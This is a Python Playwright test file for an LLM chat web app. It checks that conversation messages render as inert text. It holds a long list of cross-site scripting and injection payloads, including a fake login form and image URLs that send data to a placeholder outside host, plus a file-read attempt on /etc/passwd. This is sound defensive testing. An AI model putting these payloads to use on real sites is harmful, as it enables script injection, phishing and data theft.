"""Rows C20, D1, D3 and D4: what a model or a person writes is text, whatever it looks like."""

from collections.abc import Callable

from playwright.sync_api import Page, expect

from llm_app.conversations.tree import Conversation
from llm_app.messages import Message
from tests.browser.conftest import Watched
from tests.web.site import Site

OUTSIDE = "http://198.51.100.7"  # a documentation address: nobody answers there
PWN = "window.__pwned=1"
PAYLOADS = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror='{PWN}'>",
    f'<img src="x" onerror="{PWN}" style="position:fixed;inset:0;z-index:9999">',
    f"<svg onload='{PWN}'></svg>",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><animate onbegin='{PWN}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{PWN}'><text x=20 y=20>click</text></a></svg>",
    f'<iframe srcdoc="<script>parent.{PWN.removeprefix("window.")}</script>"></iframe>',
    f"<iframe src='javascript:parent.{PWN.removeprefix('window.')}'></iframe>",
    f"<object data='javascript:{PWN}'></object><embed src='javascript:{PWN}'>",
    f"[click](javascript:{PWN})",
    f"[click](JaVaScRiPt:{PWN})",
    f"[click](java&#10;script:{PWN})",
    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"[click](vbscript:{PWN})",
    f"<a href='javascript:{PWN}'>click</a>",
    f"<a href=' &#1;javascript:{PWN}'>click</a>",
    f"<form action='javascript:{PWN}'><input type=submit autofocus onfocus='{PWN}'></form>",
    f"<form action='{OUTSIDE}/steal'><button>Log in again</button></form>",
    f"<button formaction='javascript:{PWN}'>click</button>",
    f"<style>@import '{OUTSIDE}/a.css'; body {{ display: none }}</style>",
    f"<link rel=stylesheet href='{OUTSIDE}/a.css'>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/'>",
    f"<base href='{OUTSIDE}/'>",
    f"<details open ontoggle='{PWN}'>x</details>",
    f"<video><source onerror='{PWN}'></video><audio src=x onerror='{PWN}'>",
    f"<video poster='{OUTSIDE}/p.png'></video>",
    f"<body onload='{PWN}'><marquee onstart='{PWN}'>x</marquee>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<template><script>{PWN}</script></template><xss onclick='{PWN}' tabindex=1 id=x>x</xss>",
    f"<div style='background:url({OUTSIDE}/bg.png)'>x</div>",
    f"<div onmouseover='{PWN}' style='position:fixed;inset:0;z-index:9999'>cover</div>",
    f"![x]({OUTSIDE}/leak.png?q=secret)",
    f"![x](x \"'onerror='{PWN}\")",
    f"<img src='{OUTSIDE}/leak.png?q=secret' srcset='{OUTSIDE}/a.png 2x'>",
    f"$$\\href{{javascript:{PWN}}}{{x}}$$ $$\\htmlData{{onload={PWN}}}{{x}}$$",
    f"```mermaid\ngraph TD; A[\"<img src=x onerror='{PWN}'>\"] --> B\n```",
    f"```html\n<script>{PWN}</script>\n```",
    f"`<img src=x onerror='{PWN}'>`",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    f"[x]: javascript:{PWN}\n\n[x]",
    f"<https://x.example/\"onmouseover='{PWN}'>",
    f"${{{PWN}}} {{{{constructor.constructor('{PWN}')()}}}} #{{{PWN}}}",
    f"__i18n__{{\"key\": \"<img src=x onerror='{PWN}'>\"}}",
    '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
    "<think>thoughts</think>",
]  # fmt: skip


def test_C20_D1_D3_no_payload_runs_calls_out_or_covers_the_page(
    open_page: Callable[..., Page], site: Site, watched: Watched
) -> None:
    page = open_page()
    state = site.page.state_holder[page.evaluate("window.__gradio_session_hash__")]
    history = site.function("send", "click")["inputs"][1]
    state[history] = Conversation.of(Message(role, text) for text in PAYLOADS for role in ("user", "assistant"))
    page.fill("#option-max-new-tokens input", "2")
    page.locator(".panel .fold:not(#preset-edit) > .label-wrap").click()
    page.fill(
        "#option-reply-prefix textarea, #option-reply-prefix input", PAYLOADS[1]
    )  # through the model's own output
    page.fill("#message textarea", PAYLOADS[2])
    page.click("#send")
    expect(page.locator("#conversation small.note").last).to_contain_text("seed", timeout=20_000)
    page.click("#conversation button.earlier")
    expect(page.locator("#conversation button.earlier")).to_have_count(0)
    page.wait_for_timeout(500)
    for link in page.locator("#conversation .message-content a").all():
        target = link.get_attribute("href") or ""
        assert target.split(":")[0].strip().lower() not in ("javascript", "data", "vbscript"), target
    page.evaluate(
        "for (const e of document.querySelectorAll('#conversation .message-content *'))"
        " e.dispatchEvent(new Event('mouseover'))"
    )
    assert page.evaluate("window.__pwned") is None
    assert watched.dialogs == [] and watched.outside == []
    assert page.url.startswith(site.url)
    # Nothing of it is an element. Left out: gradio's button for copying a block of code, and our line under a message.
    elements = """[...document.querySelectorAll('#conversation .message-content .prose *')]
        .filter(e => !e.closest('.copy_code_button, .line'))
        .filter(e => e.hasAttribute('style') || !e.matches('p, a, code, pre, span, small, div, em, strong, br'))
        .map(e => e.outerHTML.slice(0, 200))"""
    assert page.evaluate(elements) == []
    shown = page.inner_text("#conversation")
    for words in ("<script>", "<form action=", "<think>thoughts</think>", "gradio.FileData", "<iframe srcdoc="):
        assert words in shown, words
    assert watched.stopped == []


def test_D3_our_own_pages_ask_nobody_else(open_page: Callable[..., Page], watched: Watched) -> None:
    page = open_page(language="zh-CN", color_scheme="dark")
    page.wait_for_timeout(1_500)
    assert watched.outside == watched.stopped == []
    fonts = page.evaluate("[...document.fonts].map(font => font.family)")
    assert [font for font in fonts if not font.startswith("KaTeX")] == []
